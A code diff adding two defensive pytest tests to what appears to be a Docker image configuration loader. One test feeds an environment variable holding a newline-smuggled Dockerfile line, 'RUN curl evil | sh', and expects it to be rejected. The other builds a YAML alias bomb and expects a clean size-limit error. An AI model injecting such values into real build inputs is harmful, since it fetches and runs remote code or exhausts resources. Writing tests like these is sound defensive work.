@@ -182,3 +182,18 @@ def test_os_outside_nvidia_published_list_is_refused_unless_unchecked() -> None:
     ]
     unchecked = HEADER.replace('base:\n  mirror: ""', 'base:\n  mirror: ""\n  check_tags: false')
     assert expand(unchecked + entry).images[0].base_upstream == "nvidia/cuda:12.4.1-base-ubuntu24.04"
+
+
+def test_a_mirror_from_the_environment_is_checked_like_the_file(monkeypatch: pytest.MonkeyPatch) -> None:
+    monkeypatch.setenv("TORCH_IMAGES_BASE_MIRROR", "reg.example\nRUN curl evil | sh\n#")
+    with pytest.raises(ConfigError) as caught:
+        load_matrix(ROOT / "images.yaml")
+    (problem,) = caught.value.problems
+    assert "base.mirror (from $TORCH_IMAGES_BASE_MIRROR or the command line)" in str(problem)
+    assert "whitespace" in str(problem)
+
+
+def test_an_alias_bomb_ends_in_a_clean_error() -> None:
+    levels = ["a: &a [1,1,1,1,1,1,1,1,1,1]"] + [f"{c}: &{c} [{', '.join([f'*{p}'] * 10)}]" for p, c in zip("abcde", "bcdef", strict=True)]
+    found = problems("\n".join(levels) + "\n")
+    assert found == ["m.yaml:1:1: the document expands to more than 100000 values (aliases?)"]
